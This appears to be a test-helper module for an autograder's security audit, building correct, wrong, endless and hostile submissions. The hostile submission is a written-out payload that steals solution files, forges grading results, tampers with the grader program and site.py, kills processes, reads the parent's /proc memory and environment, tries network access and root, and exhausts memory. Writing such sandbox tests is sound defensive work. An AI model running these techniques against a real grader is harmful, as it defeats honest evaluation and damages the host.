"""Submissions of any assignment, made from what the repository holds: right, wrong in a known way, hostile."""

from __future__ import annotations

from pathlib import Path

from autograder.audit.examples import compose, read_examples
from autograder.course import Assignment

# Runs when the file is loaded, and again in every call of an exercise: whatever works is put into the message.
HOSTILE = """
import gc, glob, mmap, os, signal, socket, sys, time


JUDGES = ("Course", "Assignment", "Job", "Settings", "CheckInfo", "Submission", "CheckResult")


def attack(*arguments, **keywords):
    def steal(pattern):
        return [open(path).read()[:200] for path in glob.glob(pattern, recursive=True)][0]

    def frames():
        frame, found = sys._getframe(), []
        while frame is not None:
            found += [value for value in frame.f_locals.values() if type(value).__name__ in JUDGES]
            frame = frame.f_back
        return found[0]

    def objects():
        gc.unfreeze()
        return [thing for thing in gc.get_objects() if type(thing).__name__ in JUDGES][0]

    attempts = {
        "frames": frames,
        "objects": objects,
        "course": lambda: sys.modules["course_config"],
        "checks": lambda: steal("/autograder/source/solutions/**/test_*.py"),
        "answers": lambda: steal("/autograder/source/solutions/**/*.py"),
        "list": lambda: os.listdir("/autograder/source"),
        "metadata": lambda: open("/autograder/submission_metadata.json").read(),
        "forge": lambda: open("/autograder/results/results.json", "w").write("{}"),
        "replace": lambda: os.rename("/autograder/results/results.json", "/tmp/x"),
        "program": lambda: open("/autograder/run_autograder", "a").write("x"),
        "engine": lambda: open(os.path.join(os.path.dirname(os.__file__), "site.py"), "a").write("x"),
        "fork": lambda: os.fork() or os._exit(0),
        "kill": lambda: [os.kill(pid, signal.SIGKILL) for pid in range(1, 400) if pid != os.getpid()],
        "parent": lambda: os.kill(os.getppid(), signal.SIGKILL),
        "memory of the judge": lambda: open(f"/proc/{os.getppid()}/mem", "rb").read(1),
        "environment": lambda: open(f"/proc/{os.getppid()}/environ").read(),
        "network": lambda: socket.create_connection(("192.0.2.1", 9), 1),
        "root": lambda: os.setuid(0),
        "shared memory": lambda: mmap.mmap(-1, 900_000_000),
    }
    worked = []
    for name, attempt in attempts.items():
        try:
            worked.append(f"{name}: {attempt()!r}")
        except Exception:
            pass
    raise RuntimeError("WORKED " + " | ".join(worked))


def hoard(*arguments, **keywords):
    hoarded = []
    try:
        while True:
            hoarded.append(bytearray(b"x") * 16_000_000)
    except MemoryError:
        time.sleep(1)  # and keep it
        raise


"""


def master(root: Path, assignment: Assignment) -> str:
    return (root / "solutions" / assignment.id / f"{assignment.module}.py").read_text(encoding="utf-8")


def wrong(root: Path, assignment: Assignment) -> tuple[str, str]:
    """A known-wrong submission, and the exercise that it gets wrong."""
    examples = read_examples(root / "solutions" / assignment.id / "examples", assignment.exercises)
    example = next(example for example in examples if example.kind == "wrong")
    return compose(master(root, assignment), example), example.exercise


def hostile(assignment: Assignment) -> str:
    """All exercises but the last attack; that one takes all the memory that there is."""
    *attacking, last = assignment.exercises
    return HOSTILE + "".join(f"{name} = attack\n" for name in attacking) + f"{last} = hoard\n"


def endless(root: Path, assignment: Assignment) -> str:
    """Right up to its last two exercises, which never end."""
    loops = (
        f"def {name}(*arguments, **keywords):\n    while True: time.sleep(1)\n" for name in assignment.exercises[-2:]
    )
    return master(root, assignment) + "\n\nimport time\n\n\n" + "\n\n".join(loops)
